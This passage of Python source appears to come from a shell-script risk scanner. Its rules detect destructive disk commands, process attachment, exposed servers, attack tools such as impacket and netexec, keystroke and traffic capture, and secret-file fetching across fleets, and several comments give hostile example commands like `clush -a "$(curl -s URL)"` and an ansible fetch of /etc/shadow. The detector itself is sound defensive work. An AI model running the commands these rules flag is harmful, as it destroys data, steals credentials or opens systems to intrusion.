            name == "mdadm" and any(k in joined for k in ("--zero-superblock", "--stop", "--remove", "--fail"))
        ):
            self._add("shell.disk-format", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} destroys volumes or RAID metadata (the data on them is lost)", node)  # fmt: skip

    def _rule_gpu(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if any(a in GPU_RESETS for a in args):
            self._add("shell.process", RiskLevel.HIGH, Category.PROCESS,
                      "nvidia-smi resets a GPU (every job running on it dies)", node)  # fmt: skip

    def _rule_port_forward(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if "-a" in args or "-r" in args:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "upnpc opens a port on the router to the internet", node)  # fmt: skip

    def _rule_compiler(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Compiling code and running the result is running the code: provenance and content carry over."""
        outputs = W.option_values(args, "-o") or ["a.out"]
        inputs = [a for a in W.options(args, T.COMPILER_VALUED)[1] if a != "-"]
        from_stdin = "-" in args
        foreign = self._stdin_remote if from_stdin else False
        foreign = foreign or any(i in self.downloaded or posixpath.basename(i) in self.downloaded for i in inputs)
        if foreign:
            for out in outputs:
                self.downloaded.update((out, posixpath.basename(out)))
        depths = [int(m.group(1)) for a in args if (m := re.match(r"-f(?:template|constexpr)-depth=(\d+)", a))]
        if depths and max(depths) >= 100_000:
            self._add("shell.memory-hog", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} lifts the compile-time recursion limit to {max(depths):,} (exhausts memory)",
                      node)  # fmt: skip
        sources = [self._written_texts[i] for i in inputs if i in self._written_texts]
        if from_stdin:
            sources += [t for t in (self._heredoc_text, self._stdin_text) if t]
        for source in sources[:2]:
            self._other_interpreter(name, source, node, "")

    def _rule_toolchain(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``go run .``, ``cargo build``: the Go or Rust sources this script wrote run (``build.rs`` at build time)."""
        if name == "go" and args[:2] == ["env", "-w"] and any("-toolexec=" in a for a in args):
            self._add("shell.persistence", RiskLevel.HIGH, Category.PERSISTENCE,
                      "go env -w sets a -toolexec program: it runs around every compile of every build",
                      node)  # fmt: skip
        if args[:1] not in (["run"], ["build"], ["test"], ["install"], ["check"], ["generate"], ["bench"]):
            return
        suffixes = (".go",) if name == "go" else (".rs",)
        for source in [t for p, t in self._written_texts.items() if p.endswith(suffixes)][:2]:
            self._other_interpreter(name, source, node, "")

    def _rule_make(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        makefile = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
        if makefile and "-" in W.option_values(args, "-f", "--file", "--makefile"):
            for recipe in _make_recipes(makefile)[:8]:  # `make -f - <<EOF`: its recipes are shell lines
                self._nested(recipe, "shell", node, f"{name} recipe", keep=RiskLevel.HIGH)
        for i, arg in enumerate(args):
            bare = arg in ("-j", "--jobs") and (i + 1 >= len(args) or not args[i + 1][:1].isdigit())
            if bare and HOLE not in (args[i + 1] if i + 1 < len(args) else ""):
                self._add("shell.fork-storm", RiskLevel.HIGH, Category.RESOURCE,
                          f"{name} -j without a number starts every job at once (exhausts memory and CPU)",
                          node)  # fmt: skip
                return

    def _rule_attach(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Debuggers and tracers attached to a running process read its memory and can make it run code."""
        attaches = (
            name == "gcore"
            or any(a in ("-p", "--pid", "attach") or (a.startswith(("--pid=", "-p")) and a[2:].isdigit()) for a in args)
            or (name == "gdb" and any(a.isdigit() for a in args[1:]))
        )
        text = self._text(node) if node is not None else ""
        pid_vars = _OWN_PID_VAR.findall(self._source.decode("utf-8", "replace")) if attaches and text else []
        own = any(f"${v}" in text or f"${{{v}}}" in text for v in pid_vars)
        # `-p "$(pgrep -o -u "$USER" -f indexer)"`: a process of this user's, picked by its name
        own = own or bool(re.search(r"\bpgrep\b[^)]*-u\s+\"?\$\{?(?:USER|LOGNAME)\b|\$\$|\$BASHPID", text))
        if attaches and name == "gdb" and _backtrace_only(args):
            self._add("shell.process-injection", RiskLevel.MEDIUM, Category.PROCESS,
                      "gdb attaches to a process only to print its threads' backtraces, then detaches",
                      node)  # fmt: skip
        elif attaches and own:
            # `PID=$(cat run/worker.pid); gcore "$PID"`: the project's own worker, debugged
            self._add("shell.process-injection", RiskLevel.MEDIUM, Category.PROCESS,
                      f"{name} attaches to this project's own process (its pid file)", node)  # fmt: skip
        elif attaches:
            self._add("shell.process-injection", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} attaches to a running process (reads its memory: keys, passwords; can inject code)",
                      node)  # fmt: skip

    def _rule_dockerd(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        hosts = W.option_values(args, "-H", "--host")
        if any(h.startswith("tcp://") and not h.startswith(("tcp://127.", "tcp://localhost")) for h in hosts) and (
            "--tlsverify" not in args
        ):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "dockerd listens on the network without TLS (root on the host for anyone)", node)  # fmt: skip

    def _rule_forge(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """gh/glab: repositories, releases, keys and collaborators, and their REST APIs."""
        flow.network = True
        positional = W.options(args, T.FORGE_VALUED)[1]
        many = bool(self._loops) or self._mass or bool(self._stdin_listing) or flow.data
        if positional[:2] in (["run", "download"], ["release", "download"], ["repo", "clone"], ["gist", "clone"]):
            for where in W.option_values(args, "-D", "--dir") or positional[3:4] or positional[2:3]:
                # an artifact, a release or a repository from elsewhere (`./perf-cache` is `perf-cache`)
                self.downloaded.update((where, posixpath.normpath(where)))
                self.cloned.add(posixpath.normpath(where))
        if positional[:1] == ["api"] and len(positional) > 1:
            method = (W.option_values(args, "-X", "--method") or ["GET"])[0]
            fields = W.option_values(args, "-f", "-F", "--field", "--raw-field", "--input")
            if ("-" in fields or "--input" in args) and self._heredoc_text:
                fields.append(self._heredoc_text)  # `--input -` with the body in a here-document
            if fields and method == "GET" and not W.option_values(args, "-X", "--method"):
                method = "POST"  # gh api sends fields with POST unless told otherwise
            risk = assess_request(method, positional[1], fields, many=many)
        else:
            risk = assess_operation(operation(*positional[:3]), args)
            if risk is None and positional[:2] == ["release", "delete"]:
                risk = assess_request("DELETE", "repos/o/r/releases/x", [], many=many)
        if risk is not None:
            what = f"{name} {' '.join(positional[:2]).replace(HOLE, '…')} {risk.what}"
            self._add("shell.cloud-control", risk.level, risk.category, what, node)
        loop = self._loops[-1] if self._loops else None
        if positional[:2] == ["workflow", "run"] and loop is not None and loop.endless:
            self._add("shell.flood", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} starts workflow runs in an endless loop (burns the CI's minutes)", node)  # fmt: skip

    def _rule_head(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """`head -c 500M /dev/urandom`, `yes | head -c 60G`: a fixed amount of noise; in a huge loop, far more than a
        disk holds."""
        sizes = [W.size(v) for v in W.option_values(args, "-c", "--bytes")]
        size = max((n for n in sizes if n is not None), default=0)
        files = [a for a in W.options(args, frozenset({"-c", "--bytes", "-n", "--lines"}))[1]]
        if not size or not (any(a in T.ENDLESS_DEVICES for a in args) or (self._stdin_endless and not files)):
            return
        loop = self._loops[-1] if self._loops else None
        if size >= T.DISK_FILL or (loop is not None and (loop.huge or loop.endless) and size >= 1 << 20):
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} writes {size:,} bytes of noise" + (" per iteration of a huge loop" if loop else ""),
                      node)  # fmt: skip

    def _rule_tls_off(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """npm/yarn/pnpm/pip/git configuration that turns off TLS or points at a plain-HTTP registry."""
        joined = " ".join(args).lower()
        if "config" not in args:
            return
        off = re.search(r"strict-?ssl\s+false|enablestrictssl\s+false|sslverify\s+false|trusted-host|"
                        r"(?:registry|index-url)\s+http://", joined)  # fmt: skip
        if off:
            # `git config` writes the repository's own file; npm's and pip's `config set`, the user's
            project = "--location=project" in args or "--local" in args or (name == "git" and "--global" not in args)
            everywhere = not project or any(a in args for a in ("--global", "-g", "--location=global", "--system"))
            # one repository's or project's own setting is its owner's call; the user's or the machine's is not
            self._add("shell.tls-off", RiskLevel.HIGH if everywhere else RiskLevel.MEDIUM, Category.NETWORK,
                      f"{name} config turns off certificate checks (or uses plain HTTP) "
                      + ("for every project" if everywhere else "for this project"), node)  # fmt: skip

    def _rule_maven(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``mvn exec:exec -Dexec.executable=sh -Dexec.args="-c '...'"``: the command the exec plugin runs."""
        props = {a[2:].split("=", 1)[0]: a.split("=", 1)[1] for a in args if a.startswith("-D") and "=" in a}
        executable = props.get("exec.executable")
        if executable:
            try:
                rest = shlex.split(props.get("exec.args", ""))
            except ValueError:
                rest = [props.get("exec.args", "")]
            self._argv([executable, *rest], node, _Flow(), [])

    def _rule_tracer(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """eBPF programs that read what people type or what TLS hides: a keylogger with root's reach."""
        program = " ".join(args)
        if name == "perf":
            system_wide = args[:1] == ["record"] and any(a in ("-a", "--all-cpus") for a in args)
            rest = args[args.index("--") + 1 :] if "--" in args else []
            timed = rest[:1] == ["sleep"] and rest[1:2] and rest[1].rstrip("smhd").isdigit()
            bounded = bool(timed) or any(a in ("-p", "--pid") or a.startswith("--pid") for a in args)
            if system_wide and not bounded:
                self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                          "perf records every CPU without a time limit (fills the disk)", node)  # fmt: skip
            return
        if name == "bpftrace" and every_function_probe(program):
            self._add("shell.cpu-burn", RiskLevel.HIGH, Category.RESOURCE,
                      "bpftrace attaches to every kernel function at once (the machine slows to a crawl or hangs)",
                      node)  # fmt: skip
        if name == "bpftrace" and (flow.remote or any(a in self.downloaded for a in args)):
            self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                      "bpftrace runs a kernel program fetched from the network, as root", node)  # fmt: skip
        if _CAPTURE_PROBES.search(program) or name.startswith(("sslsniff", "bashreadline")):
            flow.secret = True
            self._add("shell.capture", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} captures keystrokes, terminal output or TLS plaintext of other processes",
                      node)  # fmt: skip

    def _rule_binary_rewrite(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """strip, objcopy, patchelf and upx rewrite the binaries they are given in place (or the one after -o):
        graded as writes to those files (every program under /usr/bin stripped or re-pointed is the system's)."""
        valued = {"-o", "-R", "-K", "-N", "-j", "-O", "-I", "-B", "--output", "--add-section", "--set-interpreter",
                  "--set-rpath", "--add-rpath", "--add-needed", "--remove-needed", "--set-soname", "--replace-needed",
                  "--output-target", "--input-target"}  # fmt: skip
        _, operands = W.options(args, frozenset(valued))
        outputs = W.option_values(args, "-o", "--output")
        if name == "patchelf" and not any(a.startswith(("--set-", "--add-", "--replace-", "--remove-", "--shrink"))
                                          for a in args):  # fmt: skip
            return  # `patchelf --print-interpreter`: a question
        if name == "objcopy" and len(operands) >= 2:
            outputs = [operands[1]]
        if name == "upx" and any(a in ("-t", "--test", "-l", "--list", "-V", "--version") for a in args):
            return
        for target in (outputs or operands)[:4]:
            self._write(paths.classify(target), node, via=name)

    def _rule_media(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """exiftool's Perl configuration files and in-place rewrites, ImageMagick canvases of billions of pixels."""
        if name == "exiftool":
            risks, located = exiftool_risks(args, self.downloaded)
            for risk in risks:
                self._add("shell.media", risk.level, risk.category, risk.what, node)
            if located:
                flow.secret = True  # where each photo of a library was taken: its owner's whereabouts
        elif huge_canvas(args):
            self._add("shell.memory-hog", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} draws a canvas of a billion pixels or more (memory and disk run out)", node)  # fmt: skip

    def _rule_debug_server(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        address = exposed_debugger(args)
        if address is not None:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"gdbserver listens on every interface ({address}): whoever connects reads the process's "
                      "memory and makes it run anything", node)  # fmt: skip

    def _rule_attack_tool(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if not args or any(a in T.ATTACK_TOOL_INFO for a in args):
            return
        flow.network = True
        if name in ("nxc", "netexec", "crackmapexec") and not any(
            a.startswith(("-u", "-p", "-H", "-x", "-X", "-M", "--", "-k")) for a in args[1:]
        ):
            # `nxc smb dc01 dc02`: a host's SMB banner and signing, no login tried
            self._add("shell.scan", RiskLevel.MEDIUM, Category.NETWORK,
                      f"{name} fingerprints hosts (no credentials tried)", node)  # fmt: skip
            return
        tool = name.removeprefix("impacket-").removesuffix(".py")
        operands = W.skip_options(args, _IMPACKET_VALUED)
        command = " ".join(operands[1:])
        if (
            tool in ("wmiexec", "dcomexec", "atexec")
            and command
            and not any(a in ("-hashes", "-aesKey") for a in args)
            and HOLE not in command
            and not re.search(r"\s-(?:e|ec|enc|encodedcommand)\b", command, re.IGNORECASE)
        ):
            # `wmiexec -k corp/svc@dc01 'repadmin /replsummary'`: one command on a Windows host, with the
            # account's own login (no stolen hash), judged as that command
            self._add("shell.remote-exec", RiskLevel.MEDIUM, Category.PROCESS,
                      f"{name} runs `{command[:40]}` on a Windows host", node)  # fmt: skip
            for risk in windows_text_risks(command):
                self._add("shell.windows", risk.level, risk.category, f"{name}: {risk.what}", node)
            self._nested(command, "shell", node, name, keep=RiskLevel.HIGH)
            return
        self._add("shell.attack-tool", RiskLevel.HIGH, Category.NETWORK,
                  f"{name} attacks other machines or their users (payloads, relays, credential dumps, spoofing)",
                  node)  # fmt: skip

    def _rule_cracker(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        masks = [a for a in args if a.count("?") >= 10]
        if masks or ("-w" in args and "4" in args) or "--increment" in args:
            self._add("shell.cpu-burn", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} brute-forces passwords at full load (days of CPU/GPU)", node)  # fmt: skip

    def _rule_servers(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Servers started from the shell: what they publish, and to whom."""
        joined = " ".join(args)
        everywhere = "0.0.0.0" in joined or "--bind_all" in joined or "::" in joined
        if name == "websocketd" and any(W.base(a) in T.SHELLS for a in args):
            self._add("shell.reverse-shell", RiskLevel.CRITICAL, Category.NETWORK,
                      "websocketd serves a shell over the network (anyone connecting runs commands)", node)  # fmt: skip
        elif name == "caddy" and "file-server" in args:
            root = (W.option_values(args, "--root", "-r") or ["."])[0]
            kind = paths.classify(root).kind
            if kind in (paths.PathKind.ROOT, paths.PathKind.SYSTEM_TOP, paths.PathKind.HOME_TOP):
                self._add("shell.file-server", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"caddy serves {root} over the network", node)  # fmt: skip
        elif name == "httpd" and "-h" in args:
            # busybox httpd: `-h DIR` is the document root, published on every interface unless `-p` names one
            root = W.option_values(args, "-h")[0]
            if paths.classify(root).kind in (paths.PathKind.ROOT, paths.PathKind.SYSTEM_TOP, paths.PathKind.HOME_TOP):
                self._add("shell.file-server", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"httpd serves {root} over the network", node)  # fmt: skip
        elif name in ("telnetd", "utelnetd"):
            login = (W.option_values(args, "-l") or ["/bin/login"])[0]
            if W.base(login) in T.SHELLS:
                self._add("shell.reverse-shell", RiskLevel.CRITICAL, Category.NETWORK,
                          f"{name} serves {login} to anyone who connects, without a login", node)  # fmt: skip
            else:
                self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                          f"{name} starts a telnet server (logins and sessions cross the network unencrypted)",
                          node)  # fmt: skip
        elif name == "ray" and "start" in args and ("--head" in args) and everywhere:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "ray's head node (it runs submitted jobs) listens on every interface", node)  # fmt: skip
        elif name in ("dask", "dask-scheduler", "dask-worker") and everywhere:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "a dask scheduler (it runs submitted tasks) listens on every interface", node)  # fmt: skip
        elif name in ("vllm", "lm_eval", "accelerate", "transformers-cli", "huggingface-cli") and (
            "--trust-remote-code" in args
        ):
            self._add("shell.remote-code", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} --trust-remote-code runs the model repository's Python code", node)  # fmt: skip
        elif name in ("code-server", "openvscode-server") and everywhere and (
            "--auth none" in joined or "--auth=none" in joined or "--without-connection-token" in args
        ):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} serves an editor with a terminal on every interface without a password",
                      node)  # fmt: skip
        elif name in ("code", "code-insiders", "codium", "cursor") and "--install-extension" in args:
            packages = W.option_values(args, "--install-extension")
            if any(p in self.downloaded or posixpath.basename(p) in self.downloaded for p in packages):
                pinned = any(p in self.pinned or posixpath.basename(p) in self.pinned for p in packages)
                self._add("shell.download-exec", RiskLevel.MEDIUM if pinned else RiskLevel.HIGH,
                          Category.DYNAMIC_CODE,
                          f"{name} installs an extension file downloaded from the network (it runs in the editor)",
                          node)  # fmt: skip

    def _rule_fleet(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Commands run on a fleet (ansible, salt, SSM, pdsh): analysed as the shell they amount to; what stops,
        kills or opens up one machine does it to all of them."""
        if name == "ansible":
            self._fetched_secrets(args, node, flow)
        for command in adhoc_commands(name, args)[:8]:
            if HOLE in command and command.strip(HOLE + " ") == "" and (flow.download or flow.decode):
                # `clush -a "$(curl -s URL)"`: whatever the download says runs on every host
                self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                          f"{name} runs a downloaded or decoded command on every target host", node)  # fmt: skip
            found = self._nested(command, "shell", node, f"{name} on every target host", keep=RiskLevel.MEDIUM)
            limits = W.option_values(args, "-l", "--limit") if name == "ansible" else []
            if limits and all(re.fullmatch(r"[\w.-]+", limit) for limit in limits):
                continue  # `--limit web01`: one canary host, not the fleet
            harm = fleet_harm(found)
            if harm is not None:
                self._add("shell.fleet", RiskLevel.HIGH, harm.category,
                          f"{name} runs this on every target host: {harm.message}", node)  # fmt: skip

    def _rule_playbook(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """ansible-playbook: a playbook downloaded a moment ago runs its tasks (often as root) on every host."""
        for playbook in W.options(args, _PLAYBOOK_VALUED)[1]:
            if playbook in self.downloaded or posixpath.basename(playbook) in self.downloaded:
                self._runs_download(name, playbook, node)
                return

    def _fetched_secrets(self, args: list[str], node: Any, flow: _Flow) -> None:
        """``ansible all -m fetch -a 'src=/etc/shadow dest=/tmp/x/'``: a secret file of every host copied here."""
        module = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-m", "--module-name")), "")
        if module.rsplit(".", 1)[-1] not in ("fetch", "slurp"):
            return
        raw = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-a", "--args")), "")
        params = dict(re.findall(r"(\w+)=(\S+)", raw))
        info = paths.classify(params.get("src", params.get("path", "")))
        if info.secret or info.privilege:
            flow.secret = True
            self.staged.update(params[k] for k in ("dest",) if k in params)  # the copies land there
            self._add("shell.secret-read", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"ansible {module} copies {paths.describe(info)} from every target host", node)  # fmt: skip

    def _rule_backup(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Sync and backup tools: mirrors that delete, copies of the home to remotes, backups destroyed."""
        if name in ("lftp", "sftp", "ftp"):
            script = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
            inline = W.option_values(args, "-e", "-c") if name == "lftp" else []
            # an unquoted here-document expands $HOME and the script's variables like the shell would
            lines = re.sub(r"\$\{?HOME\}?", "~", "\n".join([*inline, script or ""])).replace(";", "\n")
            lines = re.sub(r"\$\{?(\w+)\}?", lambda m: self.vars.get(m[1], m[0]), lines)
            for risk in transfer_script_risks(lines, context=" ".join(args)):
                self._add("shell.exfiltration", risk.level, risk.category, f"{name} {risk.what}", node)
            self._share_script(name, lines, node)
            return
        if name == "aws":
            name, args = (args[0], args[1:]) if args[:1] == ["s3"] else ("", [])
        staged = [a for a in args if a in self.staged]
        if staged and any(W.is_remote(a) or "://" in a for a in args):
            self._add("shell.exfiltration", RiskLevel.CRITICAL, Category.EXFILTRATION,
                      f"{name} copies {staged[0]} (secret data was written to it) to remote storage", node)  # fmt: skip
        repeated = bool(self._loops) or self._mass or self._repeated
        exact = self._exact_argv
        if name in ("zfs", "zpool") and _SELECTED_LISTING.search(self._source.decode("utf-8", "replace")):
            repeated, exact = False, True  # (`… | head -n -14 | xargs zfs destroy`: all but the newest kept)
        if name in ("zfs", "zpool"):
            words = W.options(args, _ZFS_VALUED)[1]
            if words[:1] in (["create"], ["clone"]) and len(words) >= 2:
                self._made_volumes.add(f"{name}:{words[-1] if words[0] == 'clone' else words[1]}")
            if words[:1] == ["destroy"] and len(words) >= 2 and all(f"{name}:{w}" in self._made_volumes
                                                                     for w in words[1:]):
                return  # the test pool or the run's clone this script made a moment ago
        snapshots = snapshot_risks(name, args, repeated=repeated, exact=exact)
        for risk in [*sync_risks(name, args, self.made_dirs), *snapshots]:
            rule = "shell.exfiltration" if risk.category is Category.EXFILTRATION else "shell.data-destroy"
            self._add(rule, risk.level, risk.category, risk.what, node)
        if name in ("zfs", "btrfs") and "send" in args[:2]:
            flow.dump = True  # a whole dataset's stream: every file in it
        self._rule_storage_export(name, args, node, flow)

    def _rule_storage_export(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Pools, datasets and raw devices opened to every account or every host."""
        for risk in storage_command_risks(name, args, self._text(node) if node is not None else ""):
            self._add("shell.storage", risk.level, risk.category, risk.what, node)

    def _rule_storage_cluster(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Ceph and GlusterFS: pools, images and volumes deleted, replicas cut, I/O halted, keys handed out."""
        repeated = bool(self._loops) or self._mass or self._repeated
        for risk in cluster_storage_risks(name, args, repeated=repeated):
            rule = "shell.data-destroy" if risk.category is Category.FILESYSTEM else "shell.storage"
            self._add(rule, risk.level, risk.category, risk.what, node)
        if prints_cluster_keys(name, args):
            flow.secret = True  # every client's key (the admin's included)
        operands = W.options(args)[1]
        if name == "rbd" and operands[:1] == ["export"] and operands[-1:] == ["-"]:
            flow.secret = True  # a machine's whole disk on standard output

    def _share_script(self, name: str, script: str, node: Any) -> None:
        """A share client's batch script: keys planted on the server, credentials uploaded, password hives fetched
        (the local copies hold secrets from then on)."""
        if not script.strip():
            return
        risks, fetched = share_script_risks(script, self._cwd or ".")
        for risk in risks:
            rule = "shell.persistence" if risk.category is Category.PERSISTENCE else "shell.exfiltration"
            self._add(rule, risk.level, risk.category, f"{name} {risk.what}", node)
        self.staged.update(fetched)

    def _rule_mlops(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if name == "dvc" and "gc" in args and any(a in ("-c", "--cloud") for a in args):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "dvc gc --cloud deletes every version on the shared remote this workspace does not use",
                      node)  # fmt: skip

    def _package_manager(self, name: str, args: list[str], node: Any) -> None:
        """Installs with verification off, essential packages removed, install scripts set by hand."""
        text = self._text(node) if node is not None else " ".join(args)
        joined = " ".join(args)
        if (
            any(a.split("=", 1)[0] in T.UNVERIFIED_FLAGS for a in args)
            or _UNVERIFIED_ENV.search(text)
            or re.search(r"require-sigs\s+false|substituters\s+http://|--trusted-host", joined)
        ):
            self._add("shell.untrusted-install", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} installs with signature or checksum verification turned off", node)  # fmt: skip
        if name in T.REGISTRY_CLIENTS and (name in T.PACKAGE_RUNNERS or any(a in T.FETCHING_ACTIONS for a in args)):
            self._unverified_source(name, W.option_values(args, *T.REGISTRY_OPTIONS), node)
        if name in ("cpanm", "cpan", "gem", "composer"):
            # `cpanm http://198.51.100.14/dist/X.tar.gz`: a package archive named by its URL, built and installed now
            self._unverified_source(name, [a for a in args if re.match(r"https?://", a)], node)
        # (`-r`/`-P` remove only for dpkg; `pnpm -r` is recursive, and what `exec --` runs is another command)
        own_args = args[: args.index("--")] if "--" in args else args
        removing = any(a in ("remove", "purge", "erase", "autoremove", "--remove", "--purge") for a in own_args) or (
            name == "dpkg" and any(a in ("-r", "-P") for a in own_args)
        )
        if removing and any(a.split(":")[0] in T.ESSENTIAL_PACKAGES for a in args):
            self._add("shell.system-damage", RiskLevel.CRITICAL, Category.FILESYSTEM,
                      f"{name} removes packages the system cannot run without", node)  # fmt: skip
        elif removing and self._every_kernel(args):
            self._add("shell.system-damage", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} removes every installed kernel, the running one too (the machine cannot boot)",
                      node)  # fmt: skip
        if name in ("npm", "pnpm", "yarn") and args[:2] == ["pkg", "set"]:
            for assignment in args[2:]:
                key, _, script = assignment.partition("=")
                if key.startswith("scripts.") and script:
                    self._nested(script, "shell", node, f"npm script {key[8:]}")
        if name == "npm":
            self._registry_rights(args, node)

    def _registry_rights(self, args: list[str], node: Any) -> None:
        """npm publishing rights given away (`npm owner add`) or the registry's two-factor check turned off."""
        if args[:2] == ["owner", "add"] and len(args) > 2:
            many = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
            self._add("shell.registry-owner", RiskLevel.HIGH if many else RiskLevel.MEDIUM, Category.PRIVILEGE,
                      f"npm owner add gives {args[2]} publishing rights to "
                      + ("each package in turn" if many else "a package") + " (their next release is what installs)",
                      node)  # fmt: skip
        removed = args[2] if args[:2] in (["owner", "rm"], ["owner", "remove"]) and len(args) > 2 else ""
        if removed and (HOLE in removed or bool(self._stdin_listing) or self._repeated):
            self._add("shell.registry-owner", RiskLevel.HIGH, Category.PRIVILEGE,
                      "npm owner rm removes the owners a listing gives (the package is left to whoever remains)",
                      node)  # fmt: skip
        two_factor_off = any(a in ("mfa=none", "2fa-not-required") for a in args) or args[:2] == ["profile",
                                                                                                "disable-2fa"]
        if two_factor_off:
            self._add("shell.registry-owner", RiskLevel.HIGH, Category.PRIVILEGE,
                      "npm turns off the two-factor check on publishing (a stolen token publishes alone)",
                      node)  # fmt: skip

    def _every_kernel(self, args: list[str]) -> bool:
        """The packages removed are every kernel image: a `linux-image-*` glob, or what a listing of them gives
        (``dpkg --list 'linux-image-*' | … | xargs apt-get purge``) without the running one (`uname -r`) left out."""
        if any(a.startswith("linux-image") and "*" in a for a in args):
            return True
        source = self._source.decode("utf-8", "replace")
        operands = [a for a in args if not a.startswith("-") and a not in ("remove", "purge", "erase", "autoremove")]
        given = all(o.strip(HOLE) == "" for o in operands)  # nothing named, or only what xargs passes on
        return given and _KERNEL_LISTING.search(source) is not None and "uname -r" not in source

    def _rule_capture_traffic(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """tcpdump/tshark: the traffic of every program (and user) on an interface, passwords included."""
        interfaces = W.option_values(args, "-i", "--interface")
        loopback_only = bool(interfaces) and all(i in ("lo", "lo0") for i in interfaces)
        if loopback_only or "-r" in args:
            return  # the machine's own loopback, or a capture file being read back
        flow.secret = True
        self.staged.update(w for w in W.option_values(args, "-w") if w != "-")  # the capture file holds it
        logins = sorted({p for p in re.findall(r"\bport\s+(\d+)", " ".join(args)) if p in _CLEARTEXT_LOGIN_PORTS})
        hidden = any(re.search(r"/\.[^/.]", w) for w in W.option_values(args, "-w"))
        if len(logins) >= 2 or (logins and hidden):
            # a capture of FTP, telnet, POP, IMAP or database logins (sent in clear), kept in a hidden file
            self._add("shell.capture", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} captures the logins of cleartext protocols (ports {', '.join(logins)})"
                      + (" into a hidden file" if hidden else ""), node)  # fmt: skip
            return
        self._add("shell.capture", RiskLevel.MEDIUM, Category.EXFILTRATION,
                  f"{name} captures network traffic on {', '.join(interfaces) or 'the default interface'}",
                  node)  # fmt: skip

    def _rule_cd(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        operands = [a for a in args if not a.startswith("-") or a == "-"]
        self._cwd = operands[0] if operands else "~"

    def _rule_capture(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """The desktop session: clipboard readers, screenshots, notification monitors, remote desktop, shell
        extensions."""
        if name == "wl-paste" and any(a in ("-w", "--watch") for a in args):
            # `wl-paste --watch CMD`: CMD gets every text the user copies, on its standard input
            watch = next(i for i, a in enumerate(args) if a in ("-w", "--watch"))
            found = self._nested(shlex.join(args[watch + 1 :]), "shell", node, "wl-paste --watch")
            if any(f.category is Category.NETWORK or f.rule_id == "shell.network" for f in found):
                self._add("shell.exfiltration", RiskLevel.CRITICAL, Category.EXFILTRATION,
                          "wl-paste --watch sends every text the user copies to another host", node)  # fmt: skip
        if name == "dbus-monitor" and any("Notifications" in a for a in args):
            flow.secret = True  # every notification shown: chat messages, one-time codes
            self._add("shell.capture", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      "dbus-monitor records every desktop notification (messages, one-time codes)", node)  # fmt: skip
            return
        if name == "grdctl" and any(a in ("set-credentials", "enable", "disable-view-only") for a in args):
            typed = "set-credentials" in args and len(args) >= args.index("set-credentials") + 3
            self._add("shell.exposure", RiskLevel.HIGH if typed else RiskLevel.MEDIUM, Category.NETWORK,
                      "grdctl turns on remote desktop" + (" with a password written in the script" if typed else ""),
                      node)  # fmt: skip
            return
        if name == "gnome-extensions" and args[:1] == ["install"]:
            for bundle in [a for a in args[1:] if not a.startswith("-")][:1]:
                if bundle in self.downloaded or posixpath.basename(bundle) in self.downloaded:
                    self._runs_download(name, bundle, node)
            return
        clipboard = name in ("xclip", "xsel", "wl-paste", "pbpaste") and (
            name in ("wl-paste", "pbpaste") or any(a in ("-o", "--output", "-out") or a.startswith("-o") for a in args)
        )
